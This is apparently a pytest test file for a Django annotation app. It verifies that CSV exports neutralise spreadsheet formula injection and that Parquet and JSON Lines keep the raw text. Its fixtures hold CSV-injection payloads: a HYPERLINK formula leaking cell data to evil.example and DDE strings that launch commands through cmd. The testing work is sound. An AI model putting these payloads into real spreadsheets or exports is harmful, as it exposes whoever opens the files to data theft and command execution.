"""The gold CSV opens in a spreadsheet without running anyone's formula (OWASP CSV injection);
JSON Lines and Parquet keep the exact text."""

import csv
import io
import json

import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from django.urls import reverse

from annotate.models import Criterion, Export, ExportStatus, Role
from annotate.services.criteria import criterion_create
from annotate.services.grades import grade_submit
from annotate.services.projects import membership_set
from annotate.services.review import adjudication_record
from annotate.spreadsheet import FORMULA_TRIGGERS, neutralise_cell, neutralise_table
from tests.factories import OutputFactory, SampleFactory, UserFactory

ITEM = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'
INPUT = "@SUM(1+1)*cmd|' /C calc'!A0"
REFERENCE = "\t=1+1"
SYSTEM = "+1+cmd|' /C calc'!A0"
OUTPUT = "-2+3+cmd|' /C calc'!A0"
CARRIAGE = "\r=10+20"
NOTE = '=HYPERLINK("http://evil.example","note")'
REVIEWER = "@rita"
# Triggers after the first character, and a cell that already starts with a quote, stay as
# they are.
HARMLESS = "Total = price - discount + tax @ 20%"
QUOTED = "'=not a formula"


@pytest.mark.parametrize(("text", "expected"), [
    *[(f"{c}x", f"'{c}x") for c in FORMULA_TRIGGERS],
    ("", ""), ("x=1", "x=1"), (" =1", " =1"), ("'=1", "'=1"), ("\n=1", "\n=1"),
])
def test_a_cell_is_quoted_only_when_it_starts_with_a_trigger(text, expected):
    assert neutralise_cell(text) == expected


def test_the_table_version_quotes_strings_only_and_keeps_nulls():
    table = pa.table({
        "text": pa.array(["=1+1", None, "fine", "-x", "\rx"], pa.string()),
        "number": pa.array([-1, 2, -3, 4, 5], pa.int64()),
        "share": pa.array([-0.5, None, 1.0, 0.0, 0.25], pa.float64()),
    })

    result = neutralise_table(table)

    assert result.schema == table.schema
    assert result.to_pydict() == {
        "text": ["'=1+1", None, "fine", "'-x", "'\rx"],
        "number": [-1, 2, -3, 4, 5],
        "share": [-0.5, None, 1.0, 0.0, 0.25],
    }


def test_the_table_version_handles_chunks_and_large_strings():
    table = pa.table({
        "text": pa.chunked_array([["ok", "@a"], [None, "+b", "c"]], pa.string()),
        "big": pa.chunked_array([["-1", "x"], ["y", None, "\tz"]], pa.large_string()),
        "calm": pa.chunked_array([["a", "b"], ["c", "d", None]], pa.string()),
    })

    result = neutralise_table(table)

    assert result.schema == table.schema
    assert result.to_pydict() == {
        "text": ["ok", "'@a", None, "'+b", "c"],
        "big": ["'-1", "x", "y", None, "'\tz"],
        "calm": ["a", "b", "c", "d", None],
    }


@pytest.fixture
def hostile_project(project, owner, annotator):
    """An item whose every text column a person or a model wrote starts a formula."""
    criterion_create(project=project, key="grounded", name="=Grounded()", definition="-", author=owner)
    reviewer = UserFactory(username=REVIEWER)
    membership_set(project=project, user=reviewer, role=Role.REVIEWER)
    hostile = SampleFactory(project=project, external_id=ITEM, input_text=INPUT, reference=REFERENCE)
    calm = SampleFactory(project=project, external_id="ticket-2", input_text=HARMLESS, reference=QUOTED)
    first = OutputFactory(sample=hostile, project=project, system=SYSTEM, text=OUTPUT)
    second = OutputFactory(sample=calm, project=project, system="assistant", text=CARRIAGE)
    grade_submit(output=first, annotator=annotator, verdict="fail", criteria={"grounded": "fail"}, note=NOTE)
    grade_submit(output=second, annotator=annotator, verdict="pass", note=HARMLESS)
    adjudication_record(output=first, verdict="pass", reviewer=reviewer, reason=NOTE)
    return project


def export_through_the_page(client, project, owner, fmt, media, callbacks) -> bytes:
    client.force_login(owner)
    with callbacks(execute=True):
        answer = client.post(reverse("exports", args=[project.slug]), {"format": fmt, "all_grades": "on"})
    assert answer.status_code == 302
    export = Export.objects.get(format=fmt)
    assert (export.status, export.error) == (ExportStatus.DONE, "")
    download = client.get(reverse("export-download", args=[project.slug, export.pk]))
    assert download.status_code == 200
    return b"".join(download.streaming_content)


@pytest.fixture
def media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"
    return settings.MEDIA_ROOT


@pytest.mark.django_db
def test_gold_csv_neutralises_formulas_and_the_other_formats_keep_the_text(
    client, hostile_project, owner, media, django_capture_on_commit_callbacks,
):
    def export(fmt):
        return export_through_the_page(client, hostile_project, owner, fmt, media, django_capture_on_commit_callbacks)

    rows = list(csv.DictReader(io.StringIO(export("csv").decode("utf-8"), newline="")))

    by_target = {(r["output_id"], r["criterion"]): r for r in rows}
    assert len(rows) == 4  # two outputs x (holistic, grounded)
    first_id, second_id = sorted({r["output_id"] for r in rows}, key=int)
    hostile = by_target[(first_id, "")]
    assert (hostile["item_id"], hostile["input"], hostile["reference"], hostile["system"], hostile["output"]) == (
        f"'{ITEM}", f"'{INPUT}", f"'{REFERENCE}", f"'{SYSTEM}", f"'{OUTPUT}",
    )
    assert (hostile["gold"], hostile["gold_status"], hostile["adjudicated_by"]) == ("pass", "adjudicated", f"'{REVIEWER}")
    assert by_target[(first_id, "grounded")]["output"] == f"'{OUTPUT}"
    # The note sits inside the grades column's JSON, a cell that starts with "[".
    assert hostile["grades"].startswith("[")
    assert [g["note"] for g in json.loads(hostile["grades"])] == [NOTE]
    calm = by_target[(second_id, "")]
    assert (calm["item_id"], calm["input"], calm["reference"], calm["system"], calm["output"]) == (
        "ticket-2", HARMLESS, QUOTED, "assistant", f"'{CARRIAGE}",
    )
    assert (calm["gold"], calm["adjudicated_by"]) == ("pass", "")
    # Criterion keys cannot start with a trigger (the key validator wants a letter or digit).
    assert {r["criterion"] for r in rows} == {"", "grounded"}
    assert Criterion.objects.get().key == "grounded"
    # No cell of the file starts a formula any more.
    starts = [cell for row in rows for cell in row.values() if cell.startswith(FORMULA_TRIGGERS)]
    assert starts == []

    table = pq.read_table(io.BytesIO(export("parquet"))).to_pylist()
    parquet = {(r["output_id"], r["criterion"]): r for r in table}
    raw = parquet[(int(first_id), None)]
    assert (raw["item_id"], raw["input"], raw["reference"], raw["system"], raw["output"], raw["adjudicated_by"]) == (
        ITEM, INPUT, REFERENCE, SYSTEM, OUTPUT, REVIEWER,
    )
    assert parquet[(int(second_id), None)]["output"] == CARRIAGE

    lines = [json.loads(line) for line in export("jsonl").decode("utf-8").splitlines()]
    assert [(x["item_id"], x["input"], x["reference"], x["system"], x["output"]) for x in lines] == [
        (ITEM, INPUT, REFERENCE, SYSTEM, OUTPUT), ("ticket-2", HARMLESS, QUOTED, "assistant", CARRIAGE),
    ]
